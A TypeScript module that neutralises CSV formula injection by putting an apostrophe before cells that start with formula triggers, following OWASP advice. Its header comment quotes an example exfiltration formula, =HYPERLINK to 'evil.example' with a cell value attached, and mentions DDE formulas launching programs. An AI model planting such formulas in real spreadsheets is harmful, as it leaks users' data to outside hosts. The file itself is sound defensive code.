// CSV artifacts open in spreadsheets, which run a cell that starts with "=", "+", "-" or "@" as a formula:
// =HYPERLINK("https://evil.example/?"&A1) carries the sheet off the platform with one click, and DDE
// formulas have started programs. A cell can come from a person's own data (an "@mention", a "-" list
// item), so refusing would fail ordinary runs: such cells are neutralised instead, as OWASP advises, by a
// leading "'", which spreadsheets read as "this is text" and do not show.
import { isUtf8 } from 'node:buffer';

export type CsvCheck = { ok: true; bytes: Buffer; neutralisedCells: number } | { ok: false; reason: string };

const QUOTE = 0x22;
const COMMA = 0x2c;
const SEMICOLON = 0x3b;
const TAB = 0x09;
const LF = 0x0a;
const CR = 0x0d;
const SPACE = 0x20;
const APOSTROPHE = 0x27;
// "=", "+", "-", "@", tab and carriage return (OWASP), and the full-width forms some spreadsheets also take.
const TRIGGERS = new Set([0x3d, 0x2b, 0x2d, 0x40, TAB, CR]);
const FULL_WIDTH_TRIGGERS = new Set([0x9d, 0x8b, 0x8d, 0xa0]); // U+FF1D ＝, U+FF0B ＋, U+FF0D －, U+FF20 ＠: EF BC xx
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const SEP_DIRECTIVE = /^sep=/i;

/**
 * Neutralises every cell a spreadsheet could run as a formula, returning the new bytes (the same bytes
 * when nothing needed it). The file must be UTF-8 RFC 4180 CSV (comma-separated, `"`-quoted, any line
 * ending); one that is not is refused with the reason. A cell is neutralised when its first character
 * that is not a space is a trigger, unless the whole cell is a plain number such as -5 or +1.5e3.
 * Spreadsheets set to split on ";" or tab (some locales do) would see cells inside an unquoted comma
 * cell, so those are neutralised too, as is an Excel `sep=` directive on the first line. Two passes over
 * the bytes (count, then copy): memory is the output and nothing per cell.
 */
export function neutraliseCsv(bytes: Buffer): CsvCheck {
  if (!isUtf8(bytes)) return { ok: false, reason: 'is not UTF-8 text' };
  const nul = bytes.indexOf(0);
  if (nul !== -1) return { ok: false, reason: `contains a NUL byte at offset ${nul}; a CSV file is text` };
  let count = 0;
  const problem = scanCells(bytes, () => count++);
  if (problem) return { ok: false, reason: problem };
  if (count === 0) return { ok: true, bytes, neutralisedCells: 0 };
  const out = Buffer.allocUnsafe(bytes.length + count);
  let read = 0;
  let written = 0;
  scanCells(bytes, (offset) => {
    written += bytes.copy(out, written, read, offset);
    out[written++] = APOSTROPHE;
    read = offset;
  });
  bytes.copy(out, written, read);
  return { ok: true, bytes: out, neutralisedCells: count };
}

/** Calls `insertAt(offset)` for every offset where a "'" must go, in order. Returns why the file is not CSV, if it is not. */
function scanCells(bytes: Buffer, insertAt: (offset: number) => void): string | undefined {
  let i = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf ? 3 : 0; // a byte order mark
  if (SEP_DIRECTIVE.test(bytes.toString('latin1', i, i + 4))) insertAt(i);
  let line = 1;
  while (i <= bytes.length) {
    // At the start of a cell.
    if (bytes[i] === QUOTE) {
      const opened = line;
      const start = i + 1;
      let j = start;
      for (;;) {
        if (j >= bytes.length) return `has a quoted cell that is never closed (opened on line ${opened})`;
        if (bytes[j] === LF) line++;
        if (bytes[j] === QUOTE) {
          if (bytes[j + 1] === QUOTE) {
            j += 2;
            continue;
          }
          break;
        }
        j++;
      }
      if (needsNeutralising(bytes, start, j)) insertAt(start);
      i = j + 1;
      const next = bytes[i];
      if (next !== undefined && next !== COMMA && next !== LF && next !== CR) {
        return `has text after the closing quote of a cell on line ${line}; a quote inside a quoted cell is written ""`;
      }
    } else {
      // Unquoted: up to the next comma or line end. A ";" or tab may end a cell for a spreadsheet set to split on it.
      let cellStart = i;
      let j = i;
      while (j < bytes.length && bytes[j] !== COMMA && bytes[j] !== LF && bytes[j] !== CR) {
        if (bytes[j] === SEMICOLON || (bytes[j] === TAB && j > cellStart)) {
          if (needsNeutralising(bytes, cellStart, j)) insertAt(cellStart);
          cellStart = j + 1;
        }
        j++;
      }
      if (needsNeutralising(bytes, cellStart, j)) insertAt(cellStart);
      i = j;
    }
    if (i >= bytes.length) return undefined;
    // After a cell: a comma starts the next one; a line end (CRLF, LF or CR) starts the next row.
    if (bytes[i] === COMMA) i++;
    else {
      if (bytes[i] === CR && bytes[i + 1] === LF) i++;
      i++;
      line++;
      if (i >= bytes.length) return undefined;
    }
  }
  return undefined;
}

/**
 * Whether the cell bytes [start, end) begin with a trigger, after any spaces (some spreadsheets trim
 * them) and one quote (in a sub-cell, `x;"=1"`, it opens a quoted formula).
 */
function needsNeutralising(bytes: Buffer, start: number, end: number): boolean {
  let k = start;
  while (k < end && bytes[k] === SPACE) k++;
  if (k < end && bytes[k] === QUOTE) k++;
  if (k >= end) return false;
  const first = bytes[k]!;
  if (first === 0xef && bytes[k + 1] === 0xbc && FULL_WIDTH_TRIGGERS.has(bytes[k + 2]!)) return true;
  if (!TRIGGERS.has(first)) return false;
  // -5 and +1.5e3 are numbers to a spreadsheet, not formulas.
  return !((first === 0x2b || first === 0x2d) && PLAIN_NUMBER.test(bytes.toString('latin1', start, end).trim()));
}
